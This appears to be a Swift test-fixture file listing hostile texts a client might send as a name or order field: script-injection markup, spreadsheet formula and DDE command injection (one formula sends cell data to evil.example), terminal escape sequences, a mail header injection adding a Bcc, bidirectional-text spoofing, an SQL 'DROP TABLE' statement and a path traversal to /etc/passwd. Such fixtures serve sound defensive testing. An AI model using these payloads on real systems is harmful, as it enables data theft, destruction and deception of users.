/// Texts that a client may send as its user's name, its device's or an order's, each of which means something to a
/// program that shows it carelessly.
public enum HostileText: String, CaseIterable, Sendable {
    case markup, attribute, endOfScript, comment, entity, template
    case formula, sum, difference, command, tabbedFormula, returnedFormula, linedFormula, wideFormula, exchange
    case breakingCell, semicolon
    case escapeSequence, title, oneByteEscape, bell, backspace
    case header, nextLine, lineSeparator
    case reordering, isolate, mark, zeroWidth, byteOrderMark, tags
    case noncharacters, marks, surrogatePair, longest
    case quotes, statement, path, null

    public var text: String {
        switch self {
        case .markup: "<img src=x onerror=alert(1)><script>alert(2)</script>"
        case .attribute: "\" onmouseover=\"alert(3)\" x='"
        case .endOfScript: "</script></style></title><script>alert(4)</script>"
        case .comment: "<!--<script>]]>-->"
        case .entity: "&lt;b&gt;&#60;b&#62;&amp;"
        case .template: "{user} {order} {{7*7}} ${7*7} `x` \\u003cb\\u003e"
        case .formula: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
        case .sum: "+1+1"
        case .difference: "-2+3+cmd|' /C calc'!A0"
        case .command: "@SUM(1+1)*cmd|' /C calc'!A0"
        case .tabbedFormula: "\t=1+1"
        case .returnedFormula: "\r=1+1"
        case .linedFormula: "\n=1+1"
        case .wideFormula: "\u{FF1D}1\u{FF0B}1"
        case .exchange: "=DDE(\"cmd\";\"/C calc\";\"!A0\")"
        case .breakingCell: "a\",\"b\r\n=1+1,\"c"
        case .semicolon: "a;=1+1;\"b\"\u{0301};"
        case .escapeSequence: "\u{1B}[2J\u{1B}[31mred\u{1B}[0m"
        case .title: "\u{1B}]0;title\u{7}\u{1B}]8;;http://evil.example\u{1B}\\link\u{1B}]8;;\u{1B}\\"
        case .oneByteEscape: "\u{9B}31mred\u{9D}0;title\u{9C}"
        case .bell: "\u{7}\u{1}\u{7F}"
        case .backspace: "anna\u{8}\u{8}\u{8}\u{8}otto"
        case .header: "x\r\nBcc: evil@example.com\r\n\r\n<b>hello</b>"
        case .nextLine: "a\u{85}b\u{B}c\u{C}d"
        case .lineSeparator: "a\u{2028}b\u{2029}c"
        case .reordering: "user\u{202E}gnp.exe\u{202D}x\u{202A}y\u{202C}"
        case .isolate: "\u{2066}a\u{2067}b\u{2068}c"
        case .mark: "\u{200F}אבג\u{200E}abc\u{061C}"
        case .zeroWidth: "ad\u{200B}m\u{200D}i\u{200C}n\u{2060}"
        case .byteOrderMark: "\u{FEFF}=1+1"
        case .tags: "x\u{E0041}\u{E0042}\u{E007F}"
        case .noncharacters: "a\u{FFFE}b\u{FFFF}c\u{1FFFE}d"
        case .marks: "a" + String(repeating: "\u{0301}", count: 450)
        case .surrogatePair: "👩‍👩‍👧‍👦𝒳\u{10FFFF}"
        case .longest: "<" + String(repeating: "界", count: 333)
        case .quotes: "'\"`´‘“\\\\\\\""
        case .statement: "'); DROP TABLE iap.white; --"
        case .path: "../../../../etc/passwd%00%0d%0a"
        case .null: "NULL"
        }
    }

    /// What no terminal, log or mail may be shown: what moves the cursor, ends the line, or reorders or hides text.
    public static func isLive(_ scalar: Unicode.Scalar) -> Bool {
        switch scalar.properties.generalCategory {
        case .control, .format, .lineSeparator, .paragraphSeparator: scalar != "\n"
        default: false
        }
    }

    /// The live scalars of a text, as their numbers.
    public static func live(in text: String) -> [String] {
        Set(text.unicodeScalars.filter(isLive)).map { "U+" + String($0.value, radix: 16) }.sorted()
    }
}
